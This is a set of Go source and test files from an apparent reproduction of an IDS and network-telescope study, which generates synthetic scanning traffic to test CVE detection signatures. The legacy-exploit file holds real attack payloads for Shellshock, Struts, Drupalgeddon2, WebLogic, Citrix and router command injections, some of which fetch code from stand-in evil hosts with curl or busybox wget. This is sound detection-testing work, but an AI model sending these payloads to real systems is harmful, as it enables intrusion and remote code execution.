		t.Fatal(err)
	}
	filtered := rules.FilterByCVE(full, func(cve string) bool {
		return datasets.StudyCVEByID(cve) != nil
	})
	study, err := StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	if len(filtered) != len(study) {
		t.Fatalf("filtered = %d rules, study = %d", len(filtered), len(study))
	}
	for i := range filtered {
		if filtered[i].Rule.SID != study[i].Rule.SID {
			t.Fatalf("rule %d: sid %d vs %d", i, filtered[i].Rule.SID, study[i].Rule.SID)
		}
	}
}

// Legacy traffic is invisible to the filtered (study) engine but fully
// attributed by the unfiltered one.
func TestLegacyTrafficFilteredOut(t *testing.T) {
	bps, err := Build(Config{Seed: 13, Scale: 1000, Noise: 5, LegacyScans: 40})
	if err != nil {
		t.Fatal(err)
	}
	study := studyEngine(t)
	full, err := FullRuleset()
	if err != nil {
		t.Fatal(err)
	}
	fullEngine := ids.NewEngine(full, ids.Config{PortInsensitive: true})

	legacySeen := 0
	for _, bp := range bps {
		if !bp.Legacy {
			continue
		}
		legacySeen++
		if ms := study.Match(sessionFor(bp)); len(ms) != 0 {
			t.Fatalf("filtered engine attributed legacy traffic to sid %d", ms[0].SID)
		}
		ms := fullEngine.Match(sessionFor(bp))
		if len(ms) != 1 || ms[0].SID != bp.SID {
			t.Fatalf("full engine missed legacy traffic (got %d matches)", len(ms))
		}
	}
	if legacySeen != 40 {
		t.Fatalf("legacy blueprints = %d, want 40", legacySeen)
	}
}

func mustAddr(s string) netip.Addr { return packet.MustAddr(s) }
