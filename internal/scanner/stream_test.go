package scanner

import (
	"reflect"
	"testing"
)

func collectStream(t *testing.T, cfg Config) []Blueprint {
	t.Helper()
	st, err := NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var out []Blueprint
	for {
		bp, ok := st.Next()
		if !ok {
			return out
		}
		out = append(out, bp)
	}
}

// TestStreamDeterministic: two streams from the same config must emit the
// exact same blueprint sequence — the streaming capture path depends on this
// for byte parity with the materialized path.
func TestStreamDeterministic(t *testing.T) {
	cfg := Config{Seed: 3, Scale: 2000, LegacyScans: 25}
	a := collectStream(t, cfg)
	b := collectStream(t, cfg)
	if len(a) == 0 {
		t.Fatal("empty stream")
	}
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same config produced different blueprint sequences")
	}
}

// TestStreamMatchesBuild: the lazy stream and the materialized Build must
// agree element-for-element, and Total must predict the emitted count.
func TestStreamMatchesBuild(t *testing.T) {
	cfg := Config{Seed: 7, Scale: 2000, Noise: 30, LegacyScans: 25}
	want, err := Build(cfg)
	if err != nil {
		t.Fatal(err)
	}
	st, err := NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	got := collectStream(t, cfg)
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("stream diverges from Build: %d vs %d blueprints", len(got), len(want))
	}
	if st.Total() != len(want) {
		t.Fatalf("Total() = %d, emitted %d", st.Total(), len(want))
	}
}

// TestStreamAscendingTimes: the heap merge must yield a globally
// non-decreasing timeline.
func TestStreamAscendingTimes(t *testing.T) {
	bps := collectStream(t, Config{Seed: 11, Scale: 1500, LegacyScans: 20})
	for i := 1; i < len(bps); i++ {
		if bps[i].Time.Before(bps[i-1].Time) {
			t.Fatalf("blueprint %d at %v precedes %d at %v", i, bps[i].Time, i-1, bps[i-1].Time)
		}
	}
}

// TestStreamBoostMultipliesVolume: Boost scales per-CVE counts after the
// Scale division, so the boosted stream must be close to Boost times larger.
func TestStreamBoostMultipliesVolume(t *testing.T) {
	base := collectStream(t, Config{Seed: 5, Scale: 2000})
	boosted := collectStream(t, Config{Seed: 5, Scale: 2000, Boost: 4})
	lo, hi := 3*len(base), 5*len(base)
	if len(boosted) < lo || len(boosted) > hi {
		t.Fatalf("Boost 4: %d events from a base of %d, want roughly 4x (between %d and %d)",
			len(boosted), len(base), lo, hi)
	}
}
