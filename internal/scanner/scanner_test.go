package scanner

import (
	"math/rand"
	"testing"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

func sessionFor(bp Blueprint) *tcpasm.Session {
	return &tcpasm.Session{
		Client:     packet.Endpoint{Addr: bp.Src, Port: 40000},
		Server:     packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: bp.DstPort},
		Start:      bp.Time,
		End:        bp.Time.Add(time.Second),
		ClientData: bp.Payload,
		Complete:   true,
		Closed:     true,
	}
}

func studyEngine(t *testing.T) *ids.Engine {
	t.Helper()
	rs, err := StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	return ids.NewEngine(rs, ids.Config{PortInsensitive: true})
}

func TestStudyRulesetParses(t *testing.T) {
	rs, err := StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	// 62 per-CVE rules (63 minus Log4Shell) + 15 Log4Shell variants.
	if len(rs) != 62+15 {
		t.Fatalf("ruleset size = %d, want 77", len(rs))
	}
	sids := map[int]bool{}
	for _, dr := range rs {
		if sids[dr.Rule.SID] {
			t.Errorf("duplicate SID %d", dr.Rule.SID)
		}
		sids[dr.Rule.SID] = true
		if len(dr.Rule.CVEs()) == 0 {
			t.Errorf("rule sid %d has no CVE reference", dr.Rule.SID)
		}
	}
}

func TestRulePublicationMatchesAppendix(t *testing.T) {
	pubs, err := SIDPublication()
	if err != nil {
		t.Fatal(err)
	}
	// Hikvision: D = P + 49d21h.
	hik := datasets.StudyCVEByID("2021-36260")
	want := hik.Published.Add(hik.DMinusP.D)
	if got := pubs[900027]; !got.Equal(want) {
		t.Errorf("Hikvision rule published %v, want %v", got, want)
	}
	// CVEs without a D date map to the NeverPublished sentinel.
	for _, sid := range []int{900009, 900044, 900062} { // 31166, 22965, 44877
		if got := pubs[sid]; !got.Equal(NeverPublished) {
			t.Errorf("sid %d published %v, want NeverPublished", sid, got)
		}
	}
	// Log4Shell group A deploys 9h after publication.
	wantA := datasets.Log4ShellPublished.Add(9 * time.Hour)
	if got := pubs[58722]; !got.Equal(wantA) {
		t.Errorf("sid 58722 published %v, want %v", got, wantA)
	}
}

// Every exploit payload must be attributed to exactly its own signature by
// the real engine — the calibration the whole pipeline relies on.
func TestExploitAttributionExact(t *testing.T) {
	e := studyEngine(t)
	rng := rand.New(rand.NewSource(1))
	for _, ex := range Exploits() {
		for trial := 0; trial < 5; trial++ {
			bp := Blueprint{
				Time:    datasets.StudyWindow.Start.Add(time.Hour),
				Src:     packet.MustAddr("185.220.100.5"),
				DstPort: ex.Port,
				Payload: ex.Craft(rng),
				CVE:     ex.CVE,
				SID:     ex.SID,
			}
			ms := e.Match(sessionFor(bp))
			if len(ms) == 0 {
				t.Fatalf("CVE-%s payload matched no rule:\n%s", ex.CVE, bp.Payload)
			}
			if len(ms) > 1 {
				var got []int
				for _, m := range ms {
					got = append(got, m.SID)
				}
				t.Fatalf("CVE-%s payload matched %d rules %v:\n%s", ex.CVE, len(ms), got, bp.Payload)
			}
			if ms[0].SID != ex.SID {
				t.Fatalf("CVE-%s payload matched sid %d, want %d", ex.CVE, ms[0].SID, ex.SID)
			}
		}
	}
}

// Every Log4Shell variant payload must match exactly its own SID.
func TestLog4ShellVariantAttributionExact(t *testing.T) {
	e := studyEngine(t)
	rng := rand.New(rand.NewSource(2))
	for _, v := range log4ShellVariants() {
		for trial := 0; trial < 5; trial++ {
			port := uint16(8080)
			if v.Context == datasets.CtxSMTP {
				port = 25
			}
			bp := Blueprint{
				Time:    datasets.Log4ShellPublished,
				Src:     packet.MustAddr("185.220.100.6"),
				DstPort: port,
				Payload: craftLog4Shell(v, rng),
			}
			ms := e.Match(sessionFor(bp))
			if len(ms) != 1 {
				var got []int
				for _, m := range ms {
					got = append(got, m.SID)
				}
				t.Fatalf("variant sid %d matched %v:\n%s", v.SID, got, bp.Payload)
			}
			if ms[0].SID != v.SID {
				t.Fatalf("variant sid %d matched sid %d:\n%s", v.SID, ms[0].SID, bp.Payload)
			}
			if ms[0].CVEs[0] != "2021-44228" {
				t.Fatalf("variant sid %d attributed to %v", v.SID, ms[0].CVEs)
			}
		}
	}
}

// Noise payloads must never match any rule.
func TestNoiseNeverMatches(t *testing.T) {
	e := studyEngine(t)
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < 200; i++ {
		bp := Blueprint{
			Time:    datasets.StudyWindow.Start.Add(time.Duration(i) * time.Hour),
			Src:     packet.MustAddr("23.128.0.9"),
			DstPort: noisePort(rng),
			Payload: noisePayload(rng),
		}
		if ms := e.Match(sessionFor(bp)); len(ms) != 0 {
			t.Fatalf("noise payload matched sid %d:\n%s", ms[0].SID, bp.Payload)
		}
	}
}

func TestExploitsCoverAllStudyCVEs(t *testing.T) {
	have := map[string]bool{}
	for _, ex := range Exploits() {
		if have[ex.CVE] {
			t.Errorf("duplicate exploit for CVE-%s", ex.CVE)
		}
		have[ex.CVE] = true
	}
	for _, c := range datasets.StudyCVEs() {
		if c.ID == "2021-44228" {
			continue
		}
		if !have[c.ID] {
			t.Errorf("no exploit definition for CVE-%s", c.ID)
		}
	}
	if len(have) != 62 {
		t.Errorf("exploit definitions = %d, want 62", len(have))
	}
}

func TestLog4ShellVariantWeightsCoverVolume(t *testing.T) {
	var sum float64
	for _, v := range log4ShellVariants() {
		if v.Weight <= 0 {
			t.Errorf("sid %d weight %v", v.SID, v.Weight)
		}
		sum += v.Weight
	}
	if sum < 0.95 || sum > 1.05 {
		t.Errorf("variant weights sum to %.3f, want ~1", sum)
	}
}

func TestBuildWorkload(t *testing.T) {
	bps, err := Build(Config{Seed: 1, Scale: 200})
	if err != nil {
		t.Fatal(err)
	}
	if len(bps) == 0 {
		t.Fatal("empty workload")
	}
	// Sorted by time, inside the window.
	for i := range bps {
		if i > 0 && bps[i].Time.Before(bps[i-1].Time) {
			t.Fatal("workload not time-sorted")
		}
		if bps[i].Time.Before(datasets.StudyWindow.Start) || bps[i].Time.After(datasets.StudyWindow.End) {
			t.Fatalf("blueprint at %v outside study window", bps[i].Time)
		}
	}
	// Every CVE is represented.
	cves := map[string]int{}
	noise := 0
	for _, bp := range bps {
		if bp.CVE == "" {
			noise++
			continue
		}
		cves[bp.CVE]++
	}
	if len(cves) != 63 {
		t.Errorf("workload covers %d CVEs, want 63", len(cves))
	}
	if noise == 0 {
		t.Error("workload has no background noise")
	}
	// Volume ratios survive scaling: Confluence dominates.
	if cves["2022-26134"] < cves["2021-22893"] {
		t.Error("scaled volumes lost their ordering")
	}
}

func TestBuildDeterministic(t *testing.T) {
	a, err := Build(Config{Seed: 42, Scale: 500})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Build(Config{Seed: 42, Scale: 500})
	if err != nil {
		t.Fatal(err)
	}
	if len(a) != len(b) {
		t.Fatalf("lengths differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if !a[i].Time.Equal(b[i].Time) || a[i].Src != b[i].Src || a[i].CVE != b[i].CVE || string(a[i].Payload) != string(b[i].Payload) {
			t.Fatalf("blueprint %d differs between same-seed builds", i)
		}
	}
}

func TestBuildFirstEventsMatchAppendix(t *testing.T) {
	bps, err := Build(Config{Seed: 7, Scale: 100, Noise: 1})
	if err != nil {
		t.Fatal(err)
	}
	firstSeen := map[string]time.Time{}
	for _, bp := range bps {
		if bp.CVE == "" {
			continue
		}
		if _, ok := firstSeen[bp.CVE]; !ok {
			firstSeen[bp.CVE] = bp.Time
		}
	}
	// Hikvision's first attack is P + 30d4h per the appendix.
	hik := datasets.StudyCVEByID("2021-36260")
	want := hik.Published.Add(hik.AMinusP.D)
	if got := firstSeen["2021-36260"]; !got.Equal(want) {
		t.Errorf("Hikvision first event %v, want %v", got, want)
	}
	// The untargeted-OGNL CVE's first attack predates the window start and
	// is clamped to it (Appendix C: traffic from the study's beginning).
	if got := firstSeen["2022-28938"]; !got.Equal(datasets.StudyWindow.Start) {
		t.Errorf("untargeted OGNL first event %v, want window start", got)
	}
}

// End-to-end ground truth: run a scaled workload through the real engine and
// verify per-session attribution equals the blueprint's intent.
func TestWorkloadAttributionEndToEnd(t *testing.T) {
	bps, err := Build(Config{Seed: 9, Scale: 400, Noise: 50})
	if err != nil {
		t.Fatal(err)
	}
	e := studyEngine(t)
	for _, bp := range bps {
		ms := e.Match(sessionFor(bp))
		if bp.CVE == "" {
			if len(ms) != 0 {
				t.Fatalf("noise matched sid %d: %q", ms[0].SID, bp.Payload)
			}
			continue
		}
		if len(ms) != 1 || ms[0].SID != bp.SID {
			var got []int
			for _, m := range ms {
				got = append(got, m.SID)
			}
			t.Fatalf("CVE-%s expected sid %d, matched %v:\n%s", bp.CVE, bp.SID, got, bp.Payload)
		}
	}
}

func TestChoosePortOffPort(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	off := 0
	const n = 2000
	for i := 0; i < n; i++ {
		if choosePort(rng, 8090, 0.2) != 8090 {
			off++
		}
	}
	frac := float64(off) / n
	if frac < 0.15 || frac > 0.25 {
		t.Errorf("off-port fraction = %.3f, want ~0.2", frac)
	}
}

func TestStudyRulesetParsesThroughRulesetParser(t *testing.T) {
	// Rule text must be valid under the strict parser used for external
	// ruleset files too.
	for _, ex := range Exploits() {
		if _, err := rules.Parse(ex.Rule); err != nil {
			t.Errorf("CVE-%s rule does not parse: %v", ex.CVE, err)
		}
	}
	for _, v := range log4ShellVariants() {
		if _, err := rules.Parse(log4ShellRule(v)); err != nil {
			t.Errorf("sid %d rule does not parse: %v", v.SID, err)
		}
	}
}

func BenchmarkBuildWorkload(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Build(Config{Seed: int64(i), Scale: 100}); err != nil {
			b.Fatal(err)
		}
	}
}

// The whole study ruleset must survive a render → reparse cycle with
// identical matching behavior on real traffic.
func TestStudyRulesetRenderRoundTrip(t *testing.T) {
	orig, err := StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	rendered := make([]rules.DatedRule, len(orig))
	for i, dr := range orig {
		back, err := rules.Parse(dr.Rule.Render())
		if err != nil {
			t.Fatalf("sid %d: reparse failed: %v\nrendered: %s", dr.Rule.SID, err, dr.Rule.Render())
		}
		rendered[i] = rules.DatedRule{Rule: back, Published: dr.Published}
	}
	e1 := ids.NewEngine(orig, ids.Config{PortInsensitive: true})
	e2 := ids.NewEngine(rendered, ids.Config{PortInsensitive: true})
	bps, err := Build(Config{Seed: 31, Scale: 500, Noise: 30})
	if err != nil {
		t.Fatal(err)
	}
	for _, bp := range bps {
		s := sessionFor(bp)
		m1 := e1.Match(s)
		m2 := e2.Match(s)
		if len(m1) != len(m2) {
			t.Fatalf("rendered ruleset diverges on %q: %d vs %d matches", bp.Payload, len(m1), len(m2))
		}
		for i := range m1 {
			if m1[i].SID != m2[i].SID {
				t.Fatalf("rendered ruleset sid %d vs %d", m1[i].SID, m2[i].SID)
			}
		}
	}
}

// Payload crafting is a pure function of its RNG: same stream, same bytes.
func TestCraftDeterministic(t *testing.T) {
	for _, ex := range Exploits() {
		a := ex.Craft(rand.New(rand.NewSource(9)))
		b := ex.Craft(rand.New(rand.NewSource(9)))
		if string(a) != string(b) {
			t.Errorf("CVE-%s craft not deterministic", ex.CVE)
		}
		if len(a) == 0 || len(a) > 4096 {
			t.Errorf("CVE-%s payload size %d out of bounds", ex.CVE, len(a))
		}
	}
	for _, v := range log4ShellVariants() {
		a := craftLog4Shell(v, rand.New(rand.NewSource(9)))
		b := craftLog4Shell(v, rand.New(rand.NewSource(9)))
		if string(a) != string(b) {
			t.Errorf("variant sid %d craft not deterministic", v.SID)
		}
	}
}
