package scanner

import (
	"fmt"
	"time"

	"repro/internal/datasets"
	"repro/internal/rules"
)

// NeverPublished marks rules whose release the study never observed
// (Appendix E prints "-" for D−P). The rule still exists for post-facto
// evaluation, but lifecycle analysis treats F and D as unknown. It is the
// same sentinel the dated-ruleset file format uses.
var NeverPublished = rules.NeverPublishedSentinel

// StudyRuleset builds the full dated ruleset for the study: one signature
// per CVE (except Log4Shell) published at the paper's D time (P + D−P), plus
// the fifteen Log4Shell variant signatures published at their Table 6 group
// times.
func StudyRuleset() ([]rules.DatedRule, error) {
	var out []rules.DatedRule
	for _, ex := range Exploits() {
		r, err := rules.Parse(ex.Rule)
		if err != nil {
			return nil, fmt.Errorf("scanner: rule for CVE-%s: %w", ex.CVE, err)
		}
		study := datasets.StudyCVEByID(ex.CVE)
		if study == nil {
			return nil, fmt.Errorf("scanner: exploit CVE-%s not in study data", ex.CVE)
		}
		pub := NeverPublished
		if study.DMinusP.Known {
			pub = study.Published.Add(study.DMinusP.D)
		}
		out = append(out, rules.DatedRule{Rule: r, Published: pub})
	}
	for _, v := range log4ShellVariants() {
		r, err := rules.Parse(log4ShellRule(v))
		if err != nil {
			return nil, fmt.Errorf("scanner: Log4Shell rule sid %d: %w", v.SID, err)
		}
		group, err := log4ShellGroupFor(v)
		if err != nil {
			return nil, err
		}
		out = append(out, rules.DatedRule{Rule: r, Published: group.Deployed()})
	}
	return out, nil
}

func log4ShellGroupFor(v log4ShellVariant) (datasets.Log4ShellGroup, error) {
	for _, g := range datasets.Log4ShellGroups() {
		if g.Name == v.Group {
			return g, nil
		}
	}
	return datasets.Log4ShellGroup{}, fmt.Errorf("scanner: Log4Shell variant sid %d references unknown group %q", v.SID, v.Group)
}

// SIDPublication returns each SID's publication time (study and legacy
// signatures), the input to the paper's rule-availability analysis (events
// F and D).
func SIDPublication() (map[int]time.Time, error) {
	rs, err := FullRuleset()
	if err != nil {
		return nil, err
	}
	out := make(map[int]time.Time, len(rs))
	for _, dr := range rs {
		out[dr.Rule.SID] = dr.Published
	}
	return out, nil
}
