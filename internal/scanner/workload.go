package scanner

import (
	"math/rand"
	"net/netip"
	"time"

	"repro/internal/datasets"
)

// Blueprint is one planned scanning session: who sends what, when, at which
// service port. The telescope turns blueprints into captured TCP sessions.
type Blueprint struct {
	// Time the session starts.
	Time time.Time
	// Src is the scanner's address.
	Src netip.Addr
	// DstPort is the targeted service port. The paper's scanners often
	// spray non-standard ports, motivating port-insensitive rules.
	DstPort uint16
	// Payload is the client's application-layer bytes.
	Payload []byte
	// CVE is the intended target ("" for background noise). Ground truth
	// for validating IDS attribution; the pipeline itself never reads it.
	CVE string
	// SID is the signature expected to match (0 for noise).
	SID int
	// Legacy marks traffic targeting longstanding (pre-study) CVEs: the
	// bulk of what real telescopes see. The study's filtered ruleset
	// deliberately does not attribute it.
	Legacy bool
}

// Config tunes workload generation.
type Config struct {
	// Seed drives all randomness.
	Seed int64
	// Scale divides each CVE's event count (minimum one event per CVE, one
	// per Log4Shell variant). Scale 1 reproduces the full ~115 k-event
	// appendix volume; tests use larger scales. Zero means 100.
	Scale int
	// Noise is the number of background-radiation sessions (credential
	// stuffing, crawlers, TLS probes) that must match no rule. Zero means
	// one tenth of the exploit volume.
	Noise int
	// LegacyScans is the number of sessions exploiting longstanding
	// pre-study CVEs (Shellshock, Struts, GPON, ...). Real telescopes see
	// mostly this; the study's signature filter excludes it. Zero disables.
	LegacyScans int
	// OffPortFraction is the share of exploit sessions aimed at a port
	// other than the exploit's nominal one. Zero means 0.2.
	OffPortFraction float64
	// ScannerSources is the exploit-scanner population size (the paper saw
	// 3.6 k distinct sources). Zero means 360.
	ScannerSources int
	// BurstWeight forwards to netsim.CampaignTimes. Zero keeps its default.
	BurstWeight float64
	// End overrides the end of the generation window. Zero means the study
	// window's end.
	End time.Time
	// Boost multiplies every per-CVE event count after the Scale division.
	// Zero or one means off. Stress benchmarks use it to push volume past
	// paper scale (Boost 10 at Scale 1 ≈ 10x the 115 k-event corpus)
	// without disturbing Scale's minimum-one-event-per-CVE semantics.
	Boost int
}

func (c Config) withDefaults() Config {
	if c.Scale == 0 {
		c.Scale = 100
	}
	if c.OffPortFraction == 0 {
		c.OffPortFraction = 0.2
	}
	if c.ScannerSources == 0 {
		c.ScannerSources = 360
	}
	if c.End.IsZero() {
		c.End = datasets.StudyWindow.End
	}
	return c
}

// scannerPool is the address space exploit scanners come from: a mix of
// hosting providers and residential-looking space.
var scannerPoolPrefixes = []string{
	"185.220.100.0/22", "45.155.204.0/22", "194.31.98.0/23",
	"91.241.19.0/24", "103.77.192.0/22", "5.188.206.0/23",
}

// defaultLog4ShellEvents is Log4Shell's Appendix E event count, apportioned
// across variants by weight.
const defaultLog4ShellEvents = 6254

// Build generates the full workload: every study CVE's campaign (Log4Shell
// split across its Table 6 variants), plus background noise, sorted by time.
// It is a thin wrapper that collects NewStream, so the materialized and
// streaming generation paths share one generator and emit byte-identical
// blueprint sequences.
func Build(cfg Config) ([]Blueprint, error) {
	st, err := NewStream(cfg)
	if err != nil {
		return nil, err
	}
	out := make([]Blueprint, 0, st.Total())
	for {
		bp, ok := st.Next()
		if !ok {
			return out, nil
		}
		out = append(out, bp)
	}
}

// firstAttack derives a CVE's first-event time. CVEs with an unmeasured A−P
// (printed "-") still produced traffic in the paper; a 30-day default keeps
// them in the stream without affecting per-CVE A analyses (which read the
// appendix directly).
func firstAttack(c datasets.StudyCVE) time.Time {
	if c.AMinusP.Known {
		return c.Published.Add(c.AMinusP.D)
	}
	return c.Published.Add(30 * 24 * time.Hour)
}

func clampToWindow(t time.Time) time.Time {
	if t.Before(datasets.StudyWindow.Start) {
		return datasets.StudyWindow.Start
	}
	if t.After(datasets.StudyWindow.End) {
		return datasets.StudyWindow.End
	}
	return t
}

func scaledCount(events, scale int) int {
	n := events / scale
	if n < 1 {
		n = 1
	}
	return n
}

// choosePort returns the nominal port or, with the configured probability, a
// scanner-sprayed alternative.
func choosePort(rng *rand.Rand, nominal uint16, offFraction float64) uint16 {
	if rng.Float64() >= offFraction {
		return nominal
	}
	alts := []uint16{80, 81, 443, 8000, 8080, 8081, 8088, 8443, 8888, 9000, 9090}
	p := alts[rng.Intn(len(alts))]
	if p == nominal {
		p++
	}
	return p
}

func noisePort(rng *rand.Rand) uint16 {
	ports := []uint16{22, 23, 80, 443, 445, 3389, 5900, 8080}
	return ports[rng.Intn(len(ports))]
}

// noisePayload produces traffic shaped like the bulk of what the telescope
// sees: credential stuffing, generic crawling, and protocol probes that
// match no CVE signature.
func noisePayload(rng *rand.Rand) []byte {
	switch rng.Intn(5) {
	case 0: // credential stuffing
		user := pick(rng, []string{"admin", "root", "user", "test"})
		pass := pick(rng, []string{"admin", "123456", "password", "letmein"})
		return httpPost("/login", "username="+user+"&password="+pass)
	case 1: // benign-looking crawl
		return httpGet(pick(rng, []string{"/", "/robots.txt", "/favicon.ico", "/index.html"}))
	case 2: // TLS ClientHello-ish binary
		return []byte{0x16, 0x03, 0x01, 0x00, 0x8d, 0x01, 0x00, 0x00, 0x89, 0x03, 0x03, byte(rng.Intn(256)), byte(rng.Intn(256))}
	case 3: // SSH banner
		return []byte("SSH-2.0-Go\r\n")
	default: // telnet-style login probe
		return []byte("root\r\n12345\r\n")
	}
}
