package scanner

import (
	"math/rand"
	"strings"
	"time"

	"repro/internal/rules"
)

// Legacy exploitation. The paper observes that "the vast majority of
// scanning traffic is likely targeting longstanding vulnerabilities or
// weaknesses not related to specific software bugs" — of 15 M contacting
// IPs, only 3.6 k targeted NEW CVEs. Its methodology therefore filters
// signatures to CVEs *published during the study period* before analysis.
//
// This file supplies the other side of that filter: signatures and traffic
// for notorious pre-study CVEs (Shellshock, Struts, Drupalgeddon, GPON
// routers, ...) that real telescopes see constantly. The full ruleset
// matches them; the study pipeline then excludes them by publication
// window, reproducing the paper's filtering step with something real to
// filter out.

// legacySIDBase numbers the legacy signatures.
const legacySIDBase = 800001

// LegacyExploits returns exploit definitions for longstanding CVEs
// (published before the study window).
func LegacyExploits() []Exploit {
	var out []Exploit
	add := func(cve string, port uint16, sid int, msg string, options string, craft func(rng *rand.Rand) []byte) {
		out = append(out, Exploit{
			CVE:   cve,
			Port:  port,
			SID:   sid,
			Rule:  ruleText(msg, cve, sid, port, options),
			Craft: craft,
		})
	}
	add("2014-6271", 80, legacySIDBase, "OS-OTHER Bash CGI environment variable injection attempt (Shellshock)",
		content("() { :;};", ""),
		func(rng *rand.Rand) []byte {
			return httpGet("/cgi-bin/status", "User-Agent: () { :;}; /bin/bash -c 'curl http://"+pick(rng, evilHosts)+"/sh'")
		})
	add("2017-5638", 8080, legacySIDBase+1, "SERVER-APACHE Apache Struts Jakarta multipart parser command injection",
		content("%{(#_='multipart/form-data')", "http_header"),
		func(rng *rand.Rand) []byte {
			return httpGet("/struts2-showcase/index.action",
				"Content-Type: %{(#_='multipart/form-data').(#cmd='id').(#ros=@org.apache.struts2.ServletActionContext@getResponse())}")
		})
	add("2017-9841", 80, legacySIDBase+2, "SERVER-WEBAPP PHPUnit eval-stdin remote code execution attempt",
		content("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo(md5('pwn')); ?>")
		})
	add("2017-17215", 37215, legacySIDBase+3, "SERVER-WEBAPP Huawei HG532 command injection attempt (Mirai/Satori)",
		content("<NewStatusURL>$(", "http_client_body"),
		func(rng *rand.Rand) []byte {
			body := `<?xml version="1.0"?><s:Envelope><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g ` + pick(rng, evilHosts) + ` -l /tmp/.m -r /m)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>`
			return httpPost("/ctrlt/DeviceUpgrade_1", body, "Content-Type: text/xml")
		})
	add("2018-7600", 80, legacySIDBase+4, "SERVER-WEBAPP Drupal 8 remote code execution attempt (Drupalgeddon2)",
		content("/user/register?element_parents=account/mail", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/user/register?element_parents=account/mail%2F%23value&ajax_form=1&_wrapper_format=drupal_ajax",
				"form_id=user_register_form&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id")
		})
	add("2018-10561", 8080, legacySIDBase+5, "SERVER-WEBAPP Dasan GPON router authentication bypass attempt",
		content("/GponForm/diag_Form?images/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpPost("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://"+pick(rng, evilHosts)+"/g`")
		})
	add("2019-2725", 7001, legacySIDBase+6, "SERVER-WEBAPP Oracle WebLogic async deserialization attempt",
		content("/_async/AsyncResponseService", "http_uri"),
		func(rng *rand.Rand) []byte {
			body := `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>`
			return httpPost("/_async/AsyncResponseService", body, "Content-Type: text/xml")
		})
	add("2019-19781", 443, legacySIDBase+7, "SERVER-WEBAPP Citrix ADC directory traversal attempt (Shitrix)",
		content("/vpn/../vpns/", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/vpn/../vpns/cfg/smb.conf")
		})
	add("2016-6277", 80, legacySIDBase+8, "SERVER-WEBAPP NETGEAR router command injection attempt",
		content("/cgi-bin/;", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/cgi-bin/;killall$IFS'httpd'")
		})
	add("2020-25078", 80, legacySIDBase+9, "SERVER-WEBAPP D-Link DCS camera credential disclosure attempt",
		content("/config/getuser?index=0", "http_uri"),
		func(rng *rand.Rand) []byte {
			return httpGet("/config/getuser?index=0")
		})
	return out
}

// legacyPublication dates the legacy signatures: all long-available before
// the study window (rule age tracks CVE age plus a short lag).
var legacyPublication = map[string]time.Time{
	"2014-6271":  mustDateLegacy("2014-09-25"),
	"2017-5638":  mustDateLegacy("2017-03-08"),
	"2017-9841":  mustDateLegacy("2017-07-10"),
	"2017-17215": mustDateLegacy("2017-12-20"),
	"2018-7600":  mustDateLegacy("2018-03-29"),
	"2018-10561": mustDateLegacy("2018-05-04"),
	"2019-2725":  mustDateLegacy("2019-04-27"),
	"2019-19781": mustDateLegacy("2019-12-18"),
	"2016-6277":  mustDateLegacy("2016-12-10"),
	"2020-25078": mustDateLegacy("2020-09-02"),
}

func mustDateLegacy(s string) time.Time {
	t, err := time.Parse("2006-01-02", s)
	if err != nil {
		panic(err)
	}
	return t
}

// LegacyRuleset builds the dated legacy signatures.
func LegacyRuleset() ([]rules.DatedRule, error) {
	var out []rules.DatedRule
	for _, ex := range LegacyExploits() {
		r, err := rules.Parse(ex.Rule)
		if err != nil {
			return nil, err
		}
		out = append(out, rules.DatedRule{Rule: r, Published: legacyPublication[ex.CVE]})
	}
	return out, nil
}

// FullRuleset is the unfiltered signature set a real deployment evaluates:
// study-window CVEs plus longstanding ones. The paper's methodology filters
// this to in-window CVEs before analysis.
func FullRuleset() ([]rules.DatedRule, error) {
	study, err := StudyRuleset()
	if err != nil {
		return nil, err
	}
	legacy, err := LegacyRuleset()
	if err != nil {
		return nil, err
	}
	return append(study, legacy...), nil
}

// craftLegacy produces one legacy-scanning payload.
func craftLegacy(rng *rand.Rand) (payload []byte, port uint16, cve string, sid int) {
	exs := LegacyExploits()
	ex := exs[rng.Intn(len(exs))]
	return ex.Craft(rng), ex.Port, ex.CVE, ex.SID
}

// isLegacyCVE reports whether a CVE id predates the study window (by
// year; the study window opens in March 2021, and no studied CVE carries a
// pre-2021 identifier).
func isLegacyCVE(cve string) bool {
	return strings.HasPrefix(cve, "201") || strings.HasPrefix(cve, "2020-")
}
