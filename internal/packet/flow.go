package packet

import (
	"fmt"
	"net/netip"
)

// Endpoint is one side of a TCP/IPv4 conversation. It is a comparable value
// type so it can key maps directly.
type Endpoint struct {
